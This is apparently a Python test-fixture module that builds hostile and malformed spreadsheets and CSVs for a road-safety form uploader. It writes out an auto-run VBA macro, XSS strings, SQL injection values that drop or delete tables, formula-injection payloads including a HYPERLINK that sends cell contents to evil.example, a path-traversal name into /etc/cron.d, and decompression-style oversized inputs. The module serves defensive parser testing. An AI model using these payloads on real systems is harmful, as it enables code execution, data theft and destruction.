    xml = sheet_xml(f1_grid())
    first, last = F1_FIRST_DATA_ROW, F1_FIRST_DATA_ROW + len(COUNTY_NAMES) - 1
    for r in range(first, last + 1):
        old = f'<c r="B{r}"><v>{f1_rows()[r - first][1]}</v></c>'.encode()
        if r == first:
            new = f'<c r="B{r}"><f t="shared" ref="B{first}:B{last}" si="0">C{r}+10</f></c>'.encode()
        else:
            new = f'<c r="B{r}"><f t="shared" si="0"/></c>'.encode()
        assert old in xml
        xml = xml.replace(old, new)
    return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart("Sheet1", xml)])))


def _external_link_parts(rows) -> dict[str, bytes]:
    link = (
        f'{XML_DECL}<externalLink {NS} {NS_R}><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="汇总"/></sheetNames></externalBook></externalLink>'
    ).encode()
    link_rels = (
        f'{XML_DECL}<Relationships {REL_NS}><Relationship Id="rId1" Type="{REL}/externalLinkPath" '
        'Target="file:///C:/%E6%9C%BA%E5%AF%86/%E6%B1%87%E6%80%BB.xlsx" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    return workbook_parts(
        [SheetPart("Sheet1", sheet_xml(f1_grid(rows=rows)))],
        workbook_inner='<externalReferences><externalReference r:id="rIdX"/></externalReferences>',
        extra_rels=[("rIdX", f"{REL}/externalLink", "externalLinks/externalLink1.xml", "")],
        extra_parts={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
        },
    )


def external_link_with_cached_values(d: Path) -> Built:
    rows = f1_rows()
    for i, row in enumerate(rows):
        row[1] = ("f", f"[1]汇总!B{i + 2}", row[1])
    return Built(write_parts(d / "F1.xlsx", _external_link_parts(rows)))


def external_link_without_values(d: Path) -> Built:
    rows = f1_rows()
    for i, row in enumerate(rows):
        row[1] = ("f", f"[1]汇总!B{i + 2}", None)
    return Built(write_parts(d / "F1.xlsx", _external_link_parts(rows)))


def macro_workbook_xlsm(d: Path) -> Built:
    vba = ole_bytes([("VBA", b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "calc"\r\nEnd Sub')])
    parts = workbook_parts(
        [SheetPart("Sheet1", sheet_xml(f1_grid()))],
        main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        extra_rels=[
            (
                "rIdV",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin",
                "",
            )
        ],
        extra_parts={"xl/vbaProject.bin": vba},
        extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    return Built(write_parts(d / "F1.xlsm", parts))


def error_cells(d: Path) -> Built:
    rows = f1_rows()
    xml = sheet_xml(f1_grid(rows=rows))
    for col, code in (("D", "#DIV/0!"), ("E", "#REF!")):
        r = F1_FIRST_DATA_ROW + 2
        value = rows[2]["ABCDEF".index(col)]
        old = f'<c r="{col}{r}"><v>{value}</v></c>'.encode()
        assert old in xml
        xml = xml.replace(old, f'<c r="{col}{r}" t="e"><f>1/0</f><v>{code}</v></c>'.encode())
    return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart("Sheet1", xml)])))


# ---- sheets


def hidden_sheet_holds_the_form(d: Path) -> Built:
    sheets = [
        SheetPart("说明", sheet_xml([["请在“报表”工作表中填写本周数据。"]])),
        SheetPart("报表", sheet_xml(f1_grid()), state="hidden"),
    ]
    return Built(write_parts(d / "F1.xlsx", workbook_parts(sheets)))


def hidden_decoy_sheet(d: Path) -> Built:
    sheets = [
        SheetPart("旧数据", sheet_xml(f1_grid(rows=f1_rows(bump=500))), state="hidden"),
        SheetPart("报表", sheet_xml(f1_grid())),
    ]
    return Built(write_parts(d / "F1.xlsx", workbook_parts(sheets)))


def very_hidden_decoy_sheet(d: Path) -> Built:
    sheets = [
        SheetPart("报表", sheet_xml(f1_grid())),
        SheetPart("x", sheet_xml(f1_grid(rows=f1_rows(bump=700))), state="veryHidden"),
    ]
    return Built(write_parts(d / "F1.xlsx", workbook_parts(sheets)))


def _with_extra_column(header_text: str, rows=None) -> list[list[object]]:
    grid = f1_grid(rows=rows)
    grid[2] = [*grid[2], header_text]
    return grid


def long_sheet_name(d: Path) -> Built:
    name = "重点车辆" * 2500
    xml = sheet_xml(_with_extra_column("备注"))
    return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart(name, xml)])))


def sheet_name_control_chars(d: Path) -> Built:
    name = "周报\x1b[2J\u202e表\u2028"
    xml = sheet_xml(_with_extra_column("备注"))
    return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart(name, xml)])))


def long_column_name(d: Path) -> Built:
    return Built(f1_raw_xlsx_grid(d / "F1.xlsx", _with_extra_column("备注说明" * 2500)))


def nested_brackets_column_name(d: Path) -> Built:
    return Built(f1_raw_xlsx_grid(d / "F1.xlsx", _with_extra_column("(" * 50_000 + "备注" + ")" * 50_000)))


def ten_thousand_columns(d: Path) -> Built:
    grid = f1_grid()
    grid[2] = [*grid[2], *(f"附加{i}" for i in range(10_000))]
    return Built(f1_raw_xlsx_grid(d / "F1.xlsx", grid))


def f1_raw_xlsx_grid(path: Path, grid) -> Path:
    return write_parts(path, workbook_parts([SheetPart("Sheet1", sheet_xml(grid))]))


# ---- cell contents


def ten_mb_cell_xlsx(d: Path) -> Built:
    rows = [_f4_row(1), _f4_row(2)]
    rows[1][2] = "长虹大道" * (10 * (1 << 20) // 12)  # ~10 MB of UTF-8 in 道路名称
    return Built(
        write_parts(d / "F4.xlsx", workbook_parts([SheetPart("Sheet1", sheet_xml(_f4_grid(rows)))])),
        unit=F4_UNIT,
    )


def excel_max_length_cell(d: Path) -> Built:
    rows = [_f4_row(1), _f4_row(2)]
    rows[1][2] = ("长虹大道" * 8192)[:32767]
    return Built(_xlsxwriter(d / "F4.xlsx", _f4_grid(rows)), unit=F4_UNIT)


CONTROL_TEXTS = [
    "长虹\x1b[31m大道\x1b[0m",
    "长虹\u2028大道",
    "\u202e道大虹长",
    "长虹\u200b大道\ufeff",
    "长虹\x07大道\x08",
]


def control_chars_in_text(d: Path) -> Built:
    rows = []
    for i, text in enumerate(CONTROL_TEXTS, 1):
        row = _f4_row(i)
        row[2] = text
        rows.append(row)
    return Built(
        write_parts(d / "F4.xlsx", workbook_parts([SheetPart("Sheet1", sheet_xml(_f4_grid(rows)))])),
        unit=F4_UNIT,
    )


CONTROL_NUMBERS = ["12\x1b[2J", "\u202e321", "1\u20282", "4\x005", "9\x7f"]


def control_chars_in_numbers(d: Path) -> Built:
    rows = f1_rows()
    for i, text in enumerate(CONTROL_NUMBERS):
        rows[i][3] = text
    return Built(f1_raw_xlsx(d / "F1.xlsx", rows=rows))


HTML_TEXTS = ["<script>alert('roadsafe')</script>", '<img src=x onerror="alert(1)">']


def html_in_text(d: Path) -> Built:
    rows = [_f4_row(1), _f4_row(2)]
    rows[0][2] = HTML_TEXTS[0]
    rows[1][8] = HTML_TEXTS[1]
    return Built(_xlsxwriter(d / "F4.xlsx", _f4_grid(rows)), unit=F4_UNIT)


def html_in_number(d: Path) -> Built:
    rows = f1_rows()
    rows[0][1] = HTML_TEXTS[1]
    return Built(f1_raw_xlsx(d / "F1.xlsx", rows=rows))


SQL_TEXT = "'); DROP TABLE raw.submissions; --"


def sql_text_everywhere(d: Path) -> Built:
    rows = [_f4_row(1), _f4_row(2)]
    rows[0][2] = SQL_TEXT
    rows[1][8] = 'x" OR 1=1; DELETE FROM raw.form_f1; --'
    xml = sheet_xml(_f4_grid(rows))
    path = write_parts(d / "F4.xlsx", workbook_parts([SheetPart(SQL_TEXT, xml)]))
    return Built(path, unit=F4_UNIT, original_name=f"x{SQL_TEXT}.xlsx")


FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]


def formula_text_in_text_cells(d: Path) -> Built:
    rows = []
    for i, text in enumerate(FORMULA_TEXTS, 1):
        row = _f4_row(i)
        row[2] = text
        rows.append(row)
    return Built(_xlsxwriter(d / "F4.xlsx", _f4_grid(rows)), unit=F4_UNIT)


def formula_text_in_csv_numbers(d: Path) -> Built:
    rows = f1_rows()
    rows[0][1] = FORMULA_TEXTS[0]
    rows[1][2] = FORMULA_TEXTS[1]
    rows[2][3] = FORMULA_TEXTS[2]
    (d / "F1.csv").write_text(csv_text(f1_grid(rows=rows)), encoding="utf-8")
    return Built(d / "F1.csv")


def huge_numbers(d: Path) -> Built:
    rows = f1_rows()
    rows[0][1] = 1e308
    rows[1][1] = "9" * 400
    rows[2][1] = "1e400"
    rows[3][1] = "99999999999999999999万"
    rows[4][1] = "１" * 30
    rows[5][1] = "1,000,000,000,000,000,000亿"  # overflowed DECIMAL(38) in the normaliser: the file failed
    return Built(f1_raw_xlsx(d / "F1.xlsx", rows=rows))


# ---- CSV


def csv_cut_mid_character(d: Path) -> Built:
    data = csv_text(f1_grid()).encode("utf-8")
    cut = data.rindex("区".encode()) + 1  # inside the last 区 (three bytes in UTF-8)
    (d / "F1.csv").write_bytes(data[:cut])
    return Built(d / "F1.csv")


def csv_mixed_encodings(d: Path) -> Built:
    lines = csv_text(f1_grid()).splitlines(keepends=True)
    data = b"".join(line.encode("gbk" if i % 2 else "utf-8") for i, line in enumerate(lines))
    (d / "F1.csv").write_bytes(data)
    return Built(d / "F1.csv")


def csv_only_delimiters(d: Path) -> Built:
    (d / "F1.csv").write_bytes(b",,,,,\r\n" * 2000)
    return Built(d / "F1.csv", period=5)


def csv_one_line_50mb(d: Path) -> Built:
    (d / "F1.csv").write_bytes(("县区," * (50 * (1 << 20) // 7)).encode())
    return Built(d / "F1.csv", period=5)


def csv_ten_mb_cell(d: Path) -> Built:
    rows = f1_rows()
    rows[3][0] = "浔阳区" * (10 * (1 << 20) // 9)
    (d / "F1.csv").write_text(csv_text(f1_grid(rows=rows)), encoding="utf-8")
    return Built(d / "F1.csv")


def csv_nested_quotes(d: Path) -> Built:
    grid = f1_grid()
    grid[1] = ['"' * 100_001]  # the unit line: a cell of quotes, every one escaped by doubling
    (d / "F1.csv").write_text(csv_text(grid), encoding="utf-8")
    return Built(d / "F1.csv")


def csv_unclosed_quote(d: Path) -> Built:
    text = csv_text(f1_grid())
    lines = text.splitlines(keepends=True)
    lines[6] = '"' + lines[6]  # 武宁县's row opens a quote that never closes: it would swallow the rest
    (d / "F1.csv").write_text("".join(lines), encoding="utf-8")
    return Built(d / "F1.csv")


def csv_bom_in_the_middle(d: Path) -> Built:
    grid = f1_grid()
    grid[2][3] = "\ufeff" + grid[2][3]  # 已检验数 with a byte-order mark (two exports pasted together)
    grid[4][0] = "\ufeff" + grid[4][0]  # 濂溪区
    (d / "F1.csv").write_bytes(b"\xef\xbb\xbf" + csv_text(grid).encode("utf-8"))
    return Built(d / "F1.csv")


def csv_nul_bytes(d: Path) -> Built:
    data = csv_text(f1_grid()).encode("utf-8")
    (d / "F1.csv").write_bytes(data[:200] + b"\x00" * 3 + data[200:])
    return Built(d / "F1.csv")


def csv_too_many_columns(d: Path) -> Built:
    grid = f1_grid()
    grid[2] = [*grid[2], *(f"列{i}" for i in range(20_000))]
    (d / "F1.csv").write_text(csv_text(grid), encoding="utf-8")
    return Built(d / "F1.csv")


def csv_utf16_cut_odd(d: Path) -> Built:
    data = csv_text(f1_grid()).encode("utf-16")
    (d / "F1.csv").write_bytes(data[:-1])
    return Built(d / "F1.csv")


# ---- names


def name_path_traversal(d: Path) -> Built:
    return Built(f1_raw_xlsx(d / "F1.xlsx"), original_name="../../../../etc/cron.d/F1.xlsx")


def name_rtl_override(d: Path) -> Built:
    path = f1_raw_xlsx_grid(d / "F1.xlsx", _with_extra_column("备注"))
    return Built(path, original_name="周报\u202exslx.exe\x1b[2J.xlsx")


def styles_count_lie(d: Path) -> Built:
    """A style sheet that claims two billion formats (a reader preallocating by the count would abort)."""
    styles = (
        f'{XML_DECL}<styleSheet {NS}><numFmts count="2000000000"><numFmt numFmtId="164" formatCode="0.0"/>'
        '</numFmts><cellXfs count="2000000000"><xf numFmtId="0"/></cellXfs></styleSheet>'
    ).encode()
    parts = workbook_parts(
        [SheetPart("Sheet1", sheet_xml(f1_grid()))],
        extra_rels=[("rIdT", f"{REL}/styles", "styles.xml", "")],
        extra_parts={"xl/styles.xml": styles},
    )
    return Built(write_parts(d / "F1.xlsx", parts))


def chart_sheet_beside_the_form(d: Path) -> Built:
    """A workbook with a chart sheet (no cells) after the form, as offices add a chart of the figures."""
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / "F1.xlsx"))
    ws = wb.add_worksheet("报表")
    for r, row in enumerate(f1_grid()):
        for c, value in enumerate(row):
            if value is not None:
                ws.write(r, c, value)
    chart = wb.add_chart({"type": "column"})
    last = F1_FIRST_DATA_ROW + len(COUNTY_NAMES) - 1
    chart.add_series(
        {
            "categories": f"=报表!$A${F1_FIRST_DATA_ROW}:$A${last}",
            "values": f"=报表!$B${F1_FIRST_DATA_ROW}:$B${last}",
        }
    )
    wb.add_chartsheet("图表").set_chart(chart)
    wb.close()
    return Built(d / "F1.xlsx")


# ---- a far cell written the ways a reader must still see (each would make fastexcel build 17 billion cells)

FAR_CELL_SPELLINGS = {
    "line_break_before_r": b'<row r="30"><c\nr="XFD1048576"><v>1</v></c></row>',
    "single_quotes": b"<row r='30'><c r='XFD1048576'><v>1</v></c></row>",
    "spaces_around_equals": b'<row r="30"><c r = "XFD1048576"><v>1</v></c></row>',
    "lower_case": b'<row r="30"><c r="xfd1048576"><v>1</v></c></row>',
    "character_reference": b'<row r="30"><c r="&#88;FD1048576"><v>1</v></c></row>',
    "attribute_order": b'<row r="30"><c s="0" r="XFD1048576"><v>1</v></c></row>',
    "namespace_prefix": b'<row r="30"><x:c r="XFD1048576"><x:v>1</x:v></x:c></row>',
    "out_of_order": b'<row r="30"><c r="Z1048576"><v>1</v></c><c r="A30"><v>1</v></c></row>',
}


def far_cell_spelled(spelling: str):
    """A builder: the F1 form plus one far cell written as ``FAR_CELL_SPELLINGS[spelling]``."""

    def build(d: Path) -> Built:
        xml = sheet_xml(f1_grid()).replace(b"</sheetData>", FAR_CELL_SPELLINGS[spelling] + b"</sheetData>")
        return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart("Sheet1", xml)])))

    build.__name__ = f"far_cell_{spelling}"
    return build
